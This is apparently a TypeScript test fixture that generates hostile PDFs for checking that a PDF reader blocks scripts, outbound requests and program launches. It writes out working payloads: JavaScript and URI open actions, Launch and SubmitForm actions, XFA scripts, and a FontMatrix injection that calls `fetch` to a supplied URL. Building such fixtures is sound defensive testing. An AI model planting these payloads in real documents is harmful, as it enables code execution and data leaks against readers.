import { streamOf, writePdf, type PdfPage } from "./write-pdf.ts";

/**
 * What a PDF can do in a reader that lets it: run scripts, call home, start programs. Each names
 * `url`, which nobody may ask for, and every page reads 'Read this'.
 */
type Hostile = (url: string) => Buffer;

const SCRIPT = "app.alert\\('ran'\\);top.ran=1;this.submitForm\\('URL'\\)";
const script = (url: string) => `<< /S /JavaScript /JS (${SCRIPT.replace("URL", url)}) >>`;
const page = (more: Partial<PdfPage> = {}): PdfPage => ({ text: "Read this", ...more });
const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} >>]`;

export const HOSTILE_PDFS: Readonly<Record<string, Hostile>> = {
  "script when opened": (url) => opening(script(url)),
  "script by name": (url) =>
    writePdf({
      pages: [page()],
      catalog: `/Names << /JavaScript << /Names [(a) ${script(url)}] >> >>`,
    }),
  "script of a page": (url) =>
    writePdf({ pages: [page({ entries: `/AA << /O ${script(url)} /C ${script(url)} >>` })] }),
  "script of a field": (url) =>
    writePdf({
      pages: [page({ entries: "/Annots [4 0 R]" })],
      catalog: "/AcroForm << /Fields [4 0 R] /NeedAppearances true /CO [4 0 R] >>",
      objects: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 100 20]
            /AA << /K ${script(url)} /F ${script(url)} /C ${script(url)} /Fo ${script(url)} >> >>`,
      ],
    }),
  "address when opened": (url) => opening(`<< /S /URI /URI (${url}) >>`),
  "link to an address": (url) => pageWith(link(`<< /S /URI /URI (${url}) >>`)),
  "link to a script": (url) => pageWith(link(script(url))),
  "link to another file": (url) =>
    pageWith(link(`<< /S /GoToR /F << /FS /URL /F (${url}) >> /D [0 /Fit] >>`)),
  "program when opened": (url) => opening(`<< /S /Launch /F << /FS /URL /F (${url}) >> >>`),
  "another file when opened": (url) =>
    opening(`<< /S /GoToR /F << /FS /URL /F (${url}) >> /D [0 /Fit] >>`),
  "form that is sent": (url) =>
    opening(`<< /S /SubmitForm /F << /FS /URL /F (${url}) >> /Flags 4 >>`),
  "data that is brought in": (url) => opening(`<< /S /ImportData /F << /FS /URL /F (${url}) >> >>`),
  "picture that lies elsewhere": (url) =>
    drawing(
      `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8
          /ColorSpace /DeviceGray /Length 0 /F << /FS /URL /F (${url}) >> >>\nstream\n\nendstream`,
    ),
  "page that lies elsewhere": (url) =>
    drawing(
      streamOf(
        "",
        `/Type /XObject /Subtype /Form /BBox [0 0 9 9]
         /Ref << /F << /FS /URL /F (${url}) >> /Page 0 >>`,
      ),
    ),
  "film that is fetched": (url) =>
    pageWith(
      `/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100]
        /A << /S /Rendition /OP 0 /JS (${SCRIPT.replace("URL", url)})
          /R << /Type /Rendition /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${url}) >> >> >> >> >>]`,
    ),
  "form of another kind": (url) =>
    writePdf({
      pages: [page()],
      catalog: "/AcroForm << /Fields [] /XFA 4 0 R >>",
      objects: [
        streamOf(
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
             <subform name="a"><event activity="initialize"><script contentType="application/x-javascript">top.ran=1</script></event>
             <draw><value><image href="${url}" contentType="image/png"/></value></draw></subform></template></xdp:xdp>`,
        ),
      ],
    }),
  "font whose matrix is a program": (url) =>
    writePdf({
      pages: [page({ content: "BT /F2 24 Tf 9 99 Td (Read this) Tj ET", fonts: "/F2 4 0 R" })],
      objects: [
        `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FirstChar 32 /LastChar 33 /Widths [9 9]
            /FontMatrix [1 0 0 1 0 (0\\); top.ran=1; fetch\\('${url}')] /CharProcs << >> /Encoding << >> >>`,
      ],
    }),
};

function opening(action: string): Buffer {
  return writePdf({ pages: [page()], catalog: `/OpenAction ${action}` });
}

function pageWith(entries: string): Buffer {
  return writePdf({ pages: [page({ entries })] });
}

/** Draws object 4 below the text. */
function drawing(object: string): Buffer {
  const content = "BT /F1 24 Tf 72 700 Td (Read this) Tj ET 99 0 0 99 0 0 cm /X Do";
  return writePdf({
    pages: [page({ content, resources: "/XObject << /X 4 0 R >>" })],
    objects: [object],
  });
}
